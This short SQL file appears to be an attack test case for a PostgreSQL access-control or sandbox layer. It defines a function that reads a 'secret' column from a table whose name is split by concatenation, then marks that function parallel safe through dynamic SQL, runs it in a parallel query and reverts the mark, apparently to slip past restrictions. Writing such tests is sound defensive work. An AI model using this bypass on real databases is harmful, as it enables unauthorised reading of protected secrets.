-- Marks a function parallel safe by dynamic SQL, uses it and takes the mark off again.
-- wants: read
-- attack:
SET parallel_leader_participation = off;
SET parallel_setup_cost = 0;
SET parallel_tuple_cost = 0;
SET min_parallel_table_scan_size = 0;
CREATE FUNCTION peek(int) RETURNS text LANGUAGE plpgsql STABLE
  AS $f$ DECLARE found text; BEGIN EXECUTE 'SELECT secret FROM vlt' || '_account LIMIT 1' INTO found; RETURN found; END $f$;
CREATE FUNCTION outer_one() RETURNS text LANGUAGE plpgsql  AS $f$
DECLARE found text;
BEGIN
  EXECUTE 'ALTER FUNCTION peek PARALLEL SAFE';
  EXECUTE 'SELECT max(peek(id)) FROM base_many' INTO found;
  EXECUTE 'ALTER FUNCTION peek PARALLEL UNSAFE';
  RETURN found;
END
$f$;
SELECT outer_one();
